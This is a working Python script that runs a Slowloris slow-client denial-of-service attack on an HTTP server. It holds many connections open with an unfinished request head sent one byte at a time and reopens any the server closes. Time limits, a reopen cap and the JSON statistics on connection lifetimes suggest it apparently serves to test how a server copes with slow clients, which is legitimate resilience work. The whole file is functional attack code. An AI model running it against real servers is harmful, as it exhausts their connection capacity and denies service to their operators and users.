#!/usr/bin/python3
"""A slow-client attack on an HTTP listener, bounded in time and count.

  slowloris.py HOST:PORT CONNECTIONS SECONDS [INTERVAL]

Keeps CONNECTIONS connections open, each sending one byte of a request
head every INTERVAL seconds (default 5) and never finishing it; a
connection the server closes is opened again (at most 20 times per slot).
SIGTERM ends the attack early: no slot is opened again, and the run ends
once the server has closed every connection (or at SECONDS). Prints one
JSON object: connections opened, closed by the server, held at the end,
and how long the closed ones had lived (seconds)."""
import json
import resource
import selectors
import signal
import socket
import statistics
import sys
import time

host, port = sys.argv[1].rsplit(":", 1)
host = host.strip("[]")
N, SECONDS = int(sys.argv[2]), float(sys.argv[3])
INTERVAL = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
HEAD = b"POST /policy?command=allow HTTP/1.1\r\nHost: x\r\nX-Slow: "

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, N + 64)), hard))
fam = socket.AF_INET6 if ":" in host else socket.AF_INET
sel = selectors.DefaultSelector()
opened = closed = 0
lifetimes = []
reopens = [0] * N


def connect(slot):
    global opened
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect_ex((host, int(port)))
    except OSError:
        s.close()
        return
    opened += 1
    # slot, born, next byte due, offset into HEAD
    sel.register(s, selectors.EVENT_READ, [slot, time.monotonic(), time.monotonic(), 0])


stopping = []
signal.signal(signal.SIGTERM, lambda *_: stopping.append(1))
for i in range(N):
    connect(i)
end = time.monotonic() + SECONDS
while time.monotonic() < end and not (stopping and not sel.get_map()):
    for key, _ in sel.select(timeout=0.1):
        s, st = key.fileobj, key.data
        try:
            data = s.recv(4096)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            data = b""
        if not data:
            sel.unregister(s)
            s.close()
            closed += 1
            lifetimes.append(time.monotonic() - st[1])
            if reopens[st[0]] < 20 and not stopping:
                reopens[st[0]] += 1
                connect(st[0])
    now = time.monotonic()
    for key in list(sel.get_map().values()):
        st = key.data
        if now >= st[2]:
            try:
                key.fileobj.send(HEAD[st[3] % len(HEAD):st[3] % len(HEAD) + 1])
            except OSError:
                pass
            st[2], st[3] = now + INTERVAL, st[3] + 1
held = len(sel.get_map())
for key in list(sel.get_map().values()):
    key.fileobj.close()
print(json.dumps({
    "opened": opened, "closed_by_server": closed, "held_at_end": held,
    "max_lifetime": round(max(lifetimes), 2) if lifetimes else None,
    "median_lifetime": round(statistics.median(lifetimes), 2) if lifetimes else None,
}))
